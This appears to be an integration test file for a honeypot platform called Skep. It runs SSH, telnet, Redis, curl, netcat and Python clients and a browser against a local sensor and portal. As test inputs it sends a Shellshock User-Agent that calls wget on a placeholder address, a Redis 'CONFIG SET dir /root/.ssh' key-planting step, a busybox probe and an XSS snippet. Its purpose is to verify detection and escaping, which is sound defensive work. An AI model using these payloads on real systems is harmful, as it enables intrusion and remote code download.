import { execFile } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import type { StoredEvent } from '@skep/vocabulary'
import { axeFindings, has, openBrowser, python } from './browser.ts'
import { call, skep, startAll, type Running } from './process.ts'

// Real clients of other people against the whole thing. What is not installed is skipped, and named in the output.

const run = promisify(execFile)
const data = mkdtempSync(join(tmpdir(), 'skep-interop-'))
const from = 3103 // see e2e.test.ts
let all: Running
let token: string
let pair = { user: '', password: '' }
const events = async (query: string): Promise<StoredEvent[]> => {
  const answer = await fetch(`${all.portal}/api/v1/events?${query}`, { headers: { authorization: `Bearer ${token}` } })
  return (await answer.text())
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as StoredEvent)
}
const until = async (query: string, look: (event: StoredEvent) => boolean): Promise<StoredEvent> => {
  for (let i = 0; i < 100; i++) {
    const found = (await events(query)).find(look)
    if (found !== undefined) return found
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  throw new Error(`not in the API within 5 s: ${query}`)
}

beforeAll(async () => {
  all = await startAll(data, from)
  token = call('token', 'create', '--role', 'operator', '--data', data).trim()
  const [first] = (
    JSON.parse(call('sensor', 'credentials', '--data', data, '--json')) as {
      credentials: { user: string; password: string }[]
    }
  ).credentials
  pair = first ?? pair
}, 120_000)
afterAll(async () => {
  await all.stop()
  rmSync(data, { recursive: true, force: true })
}, 60_000)

const ssh = (more: string[], line: string) =>
  run('sshpass', [
    '-p',
    pair.password,
    'ssh',
    '-o',
    'StrictHostKeyChecking=no',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'LogLevel=ERROR',
    '-p',
    String(from + 22),
    ...more,
    `${pair.user}@127.0.0.1`,
    line,
  ])

test.runIf(has('ssh') && has('sshpass'))(
  'OpenSSH: commands, ciphers, MACs, key exchanges, host keys, rekeying',
  async () => {
    expect((await ssh([], 'echo $((6*7)); uname -s')).stdout).toBe('42\nLinux\n')
    const offers: string[][] = [
      ...[
        'chacha20-poly1305@openssh.com',
        'aes128-gcm@openssh.com',
        'aes256-gcm@openssh.com',
        'aes128-ctr',
        'aes192-ctr',
        'aes256-ctr',
      ].map((name) => ['-c', name]),
      ...[
        'umac-64-etm@openssh.com',
        'umac-128-etm@openssh.com',
        'umac-64@openssh.com',
        'umac-128@openssh.com',
        'hmac-sha2-256-etm@openssh.com',
        'hmac-sha2-512-etm@openssh.com',
        'hmac-sha1-etm@openssh.com',
        'hmac-sha2-256',
        'hmac-sha2-512',
        'hmac-sha1',
      ].map((name) => ['-c', 'aes256-ctr', '-m', name]),
      ...[
        'curve25519-sha256',
        'ecdh-sha2-nistp256',
        'ecdh-sha2-nistp384',
        'ecdh-sha2-nistp521',
        'diffie-hellman-group-exchange-sha256',
        'diffie-hellman-group14-sha256',
        'diffie-hellman-group16-sha512',
        'diffie-hellman-group18-sha512',
      ].map((name) => ['-o', `KexAlgorithms=${name}`]),
      ...['ssh-ed25519', 'ecdsa-sha2-nistp256', 'rsa-sha2-256', 'rsa-sha2-512'].map((name) => [
        '-o',
        `HostKeyAlgorithms=${name}`,
      ]),
      ['-o', 'RekeyLimit=16K'],
      ['-C'],
      ['-o', 'UpdateHostKeys=yes'],
      ['-C', '-o', 'RekeyLimit=16K'],
      ['-o', 'RekeyLimit=16K', '-o', 'KexAlgorithms=diffie-hellman-group-exchange-sha256'],
    ]
    for (const more of offers) expect((await ssh(more, 'seq 1 9000 | tail -1')).stdout, more.join(' ')).toBe('9000\n')
    const hello = await until(
      'kind=client.hello',
      (event) => event.kind === 'client.hello' && event.data.hassh !== undefined,
    )
    expect(hello.data).toMatchObject({ ident: expect.stringMatching(/^SSH-2\.0-OpenSSH_/) as string })
  },
  120_000,
)

test.runIf(has('ssh') && has('sshpass'))(
  'OpenSSH: sftp and both forms of scp, there and back',
  async () => {
    const local = join(data, 'there.bin')
    const back = join(data, 'back.bin')
    const bytes = Buffer.from(Array.from({ length: 90_000 }, (_, i) => (i * 31) % 251))
    writeFileSync(local, bytes)
    mkdirSync(join(data, 'tree', 'in'), { recursive: true })
    writeFileSync(join(data, 'tree', 'in', 'file'), 'deep\n')
    const common = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR']
    const at = (program: string, more: string[]) =>
      run('sshpass', ['-p', pair.password, program, ...common, '-P', String(from + 22), ...more])
    const far = `${pair.user}@127.0.0.1`
    for (const form of [[], ['-O']]) {
      await at('scp', [...form, local, `${far}:/tmp/put`])
      await at('scp', [...form, `${far}:/tmp/put`, back])
      expect(readFileSync(back).equals(bytes), form.join(' ')).toBe(true)
      await at('scp', [...form, '-r', join(data, 'tree'), `${far}:/tmp`])
      await at('scp', [...form, '-r', `${far}:/tmp/tree`, join(data, `tree-back${form.length}`)])
      expect(readFileSync(join(data, `tree-back${form.length}`, 'in', 'file'), 'utf8')).toBe('deep\n')
      expect((await ssh([], 'rm -r /tmp/tree; md5sum < /tmp/put')).stdout).toContain(
        createHash('md5').update(bytes).digest('hex'),
      )
    }
    const batch = join(data, 'batch')
    writeFileSync(
      batch,
      `cd /tmp\nmkdir d\nput ${local} d/x\nchmod 755 d/x\nls -l d\nrename d/x d/y\nrm d/y\nrmdir d\ndf\nquit\n`,
    )
    const { stdout } = await at('sftp', ['-o', 'BatchMode=no', '-b', batch, far])
    expect(stdout).toMatch(/-rwxr-xr-x +\S+ +\S+ +\S+ +90000 .* (?:d\/)?x\n/)
    await until('kind=artifact.stored', (event) => event.kind === 'artifact.stored' && event.data.name === '/tmp/d/x')
  },
  120_000,
)

test.runIf(has('expect') && has('ssh'))(
  'OpenSSH with a terminal: what a person types and sees',
  async () => {
    const script = join(data, 'pty.exp')
    writeFileSync(
      script,
      `set timeout 10
spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -p ${from + 22} ${pair.user}@127.0.0.1
expect "password:"; send "${pair.password}\\r"
expect "# "; send "cd /tmp; pwd\\r"
expect "/tmp\\r"; expect "# "; send "whoamx\\177i\\r"
expect "root\\r"; expect "# "; send "exit\\r"
expect eof
`,
    )
    const { stdout } = await run('expect', [script])
    expect(stdout).toContain('The programs included with the Debian GNU/Linux system')
    expect(stdout).toMatch(/:\/tmp# /)
    await until(
      'kind=command.run',
      (event) => event.kind === 'command.run' && event.data.line === 'whoami' && event.data.cwd === '/tmp',
    )
  },
  60_000,
)

test.runIf(has('telnet') && has('expect'))(
  'a telnet client: option negotiation, log-in, shell',
  async () => {
    const script = join(data, 'telnet.exp')
    writeFileSync(
      script,
      `set timeout 10
spawn telnet 127.0.0.1 ${from + 23}
expect "login: "; send "${pair.user}\\r"
expect "Password: "; send "${pair.password}\\r"
expect "# "; send "/bin/busybox ECCHI\\r"
expect "applet not found"; expect "# "; send "exit\\r"
expect eof
`,
    )
    expect((await run('expect', [script])).stdout).toContain('ECCHI: applet not found')
    await until(
      'service=telnet&kind=client.hello',
      (event) => event.kind === 'client.hello' && (event.data.options?.some((one) => one.startsWith('TERM=')) ?? false),
    )
  },
  60_000,
)

test.runIf(has('redis-cli'))(
  'redis-cli, in both protocol versions',
  async () => {
    const cli = async (...args: string[]) => (await run('redis-cli', ['-p', String(from + 6379), ...args])).stdout
    expect(await cli('PING')).toBe('PONG\n')
    expect(await cli('-3', 'HELLO', '3')).toContain('6.0.16')
    expect(await cli('CONFIG', 'SET', 'dir', '/root/.ssh')).toBe('OK\n')
    expect(await cli('SET', 'k', 'a\nb')).toBe('OK\n')
    expect(await cli('INFO', 'server')).toContain('redis_version:6.0.16')
    expect(await cli('NOSUCH')).toContain('ERR unknown command')
    await until(
      'kind=exploit.match',
      (event) => event.kind === 'exploit.match' && event.data.exploit === 'redis-ssh-key',
    )
  },
  30_000,
)

test.runIf(has('curl') && has('nc'))(
  'curl and netcat',
  async () => {
    const { stdout } = await run('curl', [
      '-s',
      '-i',
      '-A',
      '() { :; }; wget http://203.0.113.9/s',
      `http://127.0.0.1:${from + 80}/login`,
    ])
    expect(stdout).toMatch(/^HTTP\/1\.1 200 OK\r\nServer: nginx\/1\.18\.0\r\n/)
    await until(
      'service=http&kind=payload.seen',
      (event) => event.kind === 'payload.seen' && event.data.url === 'http://203.0.113.9/s',
    )
    const answer = await run('sh', ['-c', `printf 'hello\\n' | nc -q 2 -w 5 127.0.0.1 ${from + 2305}`])
    expect(answer.stdout).toBe('ERR unknown command\r\n')
    // Debian's curl speaks SFTP by libssh2.
    const there = ['-sk', '-u', `${pair.user}:${pair.password}`, '--url', `sftp://127.0.0.1:${from + 22}/tmp/curl`]
    await run('sh', ['-c', `printf 'by curl' > ${join(data, 'curl')}`])
    await run('curl', [...there, '-T', join(data, 'curl')])
    expect((await run('curl', there)).stdout).toBe('by curl')
    await run('sh', ['-c', `printf 'udp hello' | nc -u -q 0 -w 1 127.0.0.1 ${from + 2306}`])
    await until('kind=scan.probe', (event) => event.transport === 'udp')
  },
  30_000,
)

test.runIf(python('paramiko'))(
  'paramiko: password, exec, shell, sftp',
  async () => {
    const program = `
import paramiko, sys
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect('127.0.0.1', ${from + 22}, sys.argv[1], sys.argv[2], look_for_keys=False, allow_agent=False)
print(c.exec_command('nproc; echo done')[1].read().decode().split()[-1])
s = c.invoke_shell(); s.send('echo in the shell\\n')
out = ''
while 'in the shell\\r\\n' not in out: out += s.recv(4096).decode()
f = c.open_sftp()
with f.open('/tmp/from-paramiko', 'w') as there: there.write('x' * 100000)
f.chmod('/tmp/from-paramiko', 0o700)
print(f.stat('/tmp/from-paramiko').st_size, 'from-paramiko' in f.listdir('/tmp'), oct(f.stat('/tmp/from-paramiko').st_mode))
print('ok'); c.close()
`
    const { stdout } = await run('python3', ['-c', program, pair.user, pair.password])
    expect(stdout).toBe('done\n100000 True 0o100700\nok\n')
  },
  60_000,
)

test.runIf(python('asyncssh'))(
  'asyncssh: password, standard input, a terminal, sftp, several channels at once',
  async () => {
    const program = `
import asyncio, asyncssh, sys
async def main():
    async with asyncssh.connect('127.0.0.1', ${from + 22}, username=sys.argv[1], password=sys.argv[2], known_hosts=None,
                                client_keys=None, agent_path=None, config=None, rekey_bytes=200000) as c:
        print((await c.run('echo one; exit 3')).exit_status)
        print((await c.run('wc -c', input='x' * 300000)).stdout.strip())
        all = await asyncio.gather(*[c.run('echo %d' % i) for i in range(8)])
        print(' '.join(one.stdout.strip() for one in all))
        p = await c.create_process(term_type='vt100', term_size=(100, 30))
        p.stdin.write('tty; exit\\n')
        text = (await p.wait()).stdout
        print('/dev/pts/' in text)
        async with c.start_sftp_client() as f:
            async with f.open('/tmp/from-asyncssh', 'wb') as there: await there.write(b'y' * 200000)
            print((await f.stat('/tmp/from-asyncssh')).size, 'from-asyncssh' in await f.listdir('/tmp'))
            await f.rename('/tmp/from-asyncssh', '/tmp/renamed')
            print(await f.exists('/tmp/from-asyncssh'), await f.isfile('/tmp/renamed'))
asyncio.run(main())
`
    const { stdout } = await run('python3', ['-c', program, pair.user, pair.password])
    expect(stdout).toBe('3\n300000\n0 1 2 3 4 5 6 7\nTrue\n200000 True\nFalse True\n')
  },
  60_000,
)

/** What an operator does with the fleet: adds a sensor, renames one, wants other settings, and sees what became of it. */
async function inviteAndSet(page: Page): Promise<void> {
  await page.goto(`${all.portal}/fleet`)
  await page.getByRole('button', { name: 'Add sensor' }).click()
  await page.getByLabel('Organisation that hosts it').fill('lagoon')
  await page.getByLabel('What to call it').fill('<b>Suva</b>')
  await page.getByRole('button', { name: 'Make the line' }).click()
  const line = (await page.locator('pre.command').textContent()) ?? ''
  expect(line.trim()).toMatch(/^skep sensor join 127\.0\.0\.1:\d+ [\w-]+\.[\w-]{43}$/)
  await page.getByRole('button', { name: 'Done' }).click()

  const [, , , gateway = '', token = ''] = line.trim().split(' ')
  const partner = mkdtempSync(join(tmpdir(), 'skep-partner-'))
  await run(process.execPath, [skep, 'sensor', 'join', gateway, token, '--data', partner, '--name', 'partner-1'])
  await page.goto(`${all.portal}/fleet/sensor/partner-1`)
  await page.getByRole('heading', { name: '<b>Suva</b>' }).waitFor()
  await page.getByRole('button', { name: 'Rename or move' }).click()
  await page.getByLabel('Name to show').fill('Library, Suva')
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByRole('heading', { name: 'Library, Suva' }).waitFor()
  await page.getByRole('button', { name: 'Quarantine' }).click()
  await page.getByText('quarantined', { exact: true }).waitFor()
  await page.getByRole('button', { name: 'Remove', exact: true }).click()
  await page.getByRole('button', { name: 'Yes, remove partner-1' }).click()
  await page.getByRole('heading', { name: 'Sensors', exact: true }).waitFor()
  rmSync(partner, { recursive: true, force: true })

  await page.goto(`${all.portal}/fleet/sensor/${all.sensor}`)
  const box = page.getByLabel(/^Settings \(JSON\)/)
  await box.fill('{"limits": {"sessions": "many"}}')
  await page.getByRole('button', { name: 'Want this' }).click()
  await page.getByRole('alert').filter({ hasText: 'limits.sessions' }).waitFor()
  await box.fill('{"limits": {"perSource": 99}}')
  await page.getByRole('button', { name: 'Want this' }).click()
  // The sensor pulls it with its next heartbeat.
  await page.getByText(/^Version \d+ was applied/).waitFor({ timeout: 60_000 })
  await page.goto(`${all.portal}/ledger`)
  await page.getByText('none missing').waitFor()
}

const chromium = has('chromium')
test.runIf(chromium)(
  'the portal in a browser: live, replay, no finding of axe, attacker text is text',
  async () => {
    if (has('sshpass')) await ssh(['-tt'], "echo '<img src=x onerror=document.title=1>'; uname -a")
    call('demo', '--data', data)
    const browser = await openBrowser()
    try {
      const page = await (
        await browser.newContext({ viewport: { width: 1280, height: 900 }, bypassCSP: false })
      ).newPage()
      const wrong: string[] = []
      page.on('pageerror', (error) => wrong.push(String(error)))
      page.on('console', (message) => {
        if (message.type() === 'error') wrong.push(message.text())
      })
      await page.goto(all.signin)
      await page.waitForSelector('.timeline svg')
      // Live: a new session appears without a reload.
      await page.waitForSelector('.live .on')
      await fetch(`http://127.0.0.1:${from + 80}/live-in-the-portal`)
      await page.waitForSelector('text=/live-in-the-portal/', { timeout: 5000 })
      const session = (await events('kind=recording.closed')).at(-1)?.session ?? ''
      const paths = [
        '/?span=all',
        '/networks?span=all',
        '/network/12271?span=all',
        '/source/72.226.28.47',
        '/sources?span=all',
        '/sessions?span=all',
        '/indicators?span=all',
        '/indicators?span=all&type=credential',
        '/search?q=AS12271',
        '/fleet',
        `/fleet/sensor/${all.sensor}`,
        '/fleet/group/all',
        '/ledger',
        '/sharing',
        ...(session === '' ? [] : [`/session/${session}`]),
      ]
      for (const scheme of ['light', 'dark'] as const) {
        await page.emulateMedia({ colorScheme: scheme })
        for (const path of paths) {
          await page.goto(`${all.portal}${path}`)
          await page.waitForSelector('h1', { state: 'attached' })
          await page.waitForSelector('.skeleton', { state: 'detached' })
          expect(await axeFindings(page), `${scheme} ${path}`).toEqual([])
        }
      }
      // An agreement is made, tried and ended.
      await page.goto(`${all.portal}/sharing`)
      await page.click('summary:has-text("New agreement")')
      const form = page.locator('form[aria-label="Agreement"]')
      await form.locator('[name=name]').fill('certs')
      await form.locator('[name=title]').fill('CERTs of the region')
      await form.locator('button[type=submit]').click()
      const made = page.locator('section[aria-label="CERTs of the region"]')
      await made.waitFor()
      await made.locator('[name=organisation]').fill('home')
      await made.locator('form button[type=submit]').click()
      await made.getByText('What would they get?').click()
      await page.waitForSelector('section[aria-label="What home would get"]')
      await made.getByText('End the agreement').click()
      await made.getByText('Yes').click()
      await page.waitForSelector('text=Nothing is shared with anybody yet.')

      if (session !== '') {
        await page.goto(`${all.portal}/session/${session}`)
        await page.waitForSelector('.player .ap-player')
        expect(await page.title()).toBe('Skep')
        expect(await page.locator('img[src="x"]').count()).toBe(0)
      }
      expect(wrong).toEqual([])
      await inviteAndSet(page)
      // The first page and all that it needs.
      const sizes: number[] = []
      page.on(
        'response',
        (response) =>
          void response
            .request()
            .sizes()
            .then(
              ({ responseBodySize }) => sizes.push(responseBodySize),
              () => {},
            ),
      )
      await page.goto(`${all.portal}/?span=all&x=${Date.now()}`)
      await page.waitForSelector('.timeline svg')
      expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(300 * 1024)
    } finally {
      await browser.close()
    }
  },
  180_000,
)
